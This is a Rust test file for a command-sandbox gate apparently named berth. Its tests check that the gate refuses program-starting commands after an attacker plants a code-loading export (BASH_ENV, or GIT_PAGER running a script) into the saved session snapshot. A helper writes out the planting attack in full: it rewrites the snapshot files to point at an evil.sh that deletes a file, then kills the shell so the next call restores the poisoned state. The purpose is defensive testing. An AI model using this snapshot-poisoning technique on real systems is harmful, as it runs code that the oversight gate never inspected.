/// A sandbox's own attack on its saved state: `keep` and an `evil.sh` that
/// removes it, `A=1` exported, then `declare -x NAME="PREFIX$PWD/evil.sh"`
/// written into each snapshot and the shell killed, so the next call
/// restores it. The output of the planting call.
fn plant_in_snapshot(env: &Env, name: &str, prefix: &str) -> std::io::Result<Output> {
    let o = env.run(&[
        "exec",
        "--",
        r#"touch keep && printf '%s keep\n' "r""m" > evil.sh && export A=1"#,
    ])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let plant = format!(
        r#"n=0; for f in ../.berth/snap.0 ../.berth/snap.1; do [ -f "$f" ] || continue; t=$(<"$f"); head=${{t%%# berth aliases*}}; [ "$head" != "$t" ] || continue; printf '%sdeclare -x {name}="{prefix}%s/evil.sh"\n%s\n' "$head" "$PWD" "${{t#"$head"}}" > "$f"; n=$((n+1)); done; echo "planted $n"; kill -9 $$"#
    );
    env.run(&["exec", "--", &plant])
}

/// Issue 49 item 10's siblings: an export that makes programs load code
/// (`BASH_ENV`, `LD_PRELOAD`, `GIT_SSH_COMMAND`, ...), planted in the
/// session's saved state by a command that then kills its shell, is
/// restored with the rest, and every program a later command starts would
/// run code the gate never read: `bash -c true` would run `rm keep`. The
/// shell reports such exports with its names, and while one is set every
/// command that may start a program is opaque (here: denied). A command of
/// inert builtins still runs, so `unset BASH_ENV` clears the way.
#[test]
fn a_planted_code_loading_export_makes_programs_opaque() -> TestResult {
    let env = Env::new(GUARD)?;
    let o = plant_in_snapshot(&env, "BASH_ENV", "")?;
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("planted 1")
            || String::from_utf8_lossy(&o.stdout).contains("planted 2"),
        "{}",
        text(&o)
    );
    let o = env.run(&["exec", "--", "bash -c true"])?;
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("BASH_ENV"),
        "{}",
        text(&o)
    );
    assert!(env.work().join("keep").exists(), "BASH_ENV ran `rm keep`");
    // The restore kept the rest of the state.
    let o = env.run(&["exec", "--", "echo $A"])?;
    assert_eq!(String::from_utf8_lossy(&o.stdout), "1\n", "{}", text(&o));
    let o = env.run(&["exec", "--", "unset BASH_ENV"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&["exec", "--", "bash -c true; echo ran"])?;
    assert_eq!(String::from_utf8_lossy(&o.stdout), "ran\n", "{}", text(&o));
    assert!(env.work().join("keep").exists());
    Ok(())
}

/// The sibling of the one above: a variable berth itself sets (`GIT_PAGER`,
/// `cat`) given code in a rewritten snapshot. Its name is berth's, its value
/// is not: a program a later command starts (git runs its pager) would run
/// text the gate never read, so such commands are opaque until berth's value
/// is back.
#[test]
fn a_planted_value_of_a_variable_berth_sets_makes_programs_opaque() -> TestResult {
    let env = Env::new(GUARD)?;
    let o = plant_in_snapshot(&env, "GIT_PAGER", "sh ")?;
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("planted"),
        "{}",
        text(&o)
    );
    let o = env.run(&["exec", "--", "echo \"$GIT_PAGER\"; bash -c true"])?;
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("GIT_PAGER"),
        "{}",
        text(&o)
    );
    assert!(env.work().join("keep").exists());
    // Gone as the refusal says: programs run again, and nothing is opaque
    // for a variable berth set and no one changed (PAGER).
    let o = env.run(&["exec", "--", "unset GIT_PAGER"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&["exec", "--", "bash -c true; echo $A ran"])?;
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "1 ran\n",
        "{}",
        text(&o)
    );
    assert!(env.work().join("keep").exists());
    Ok(())
}
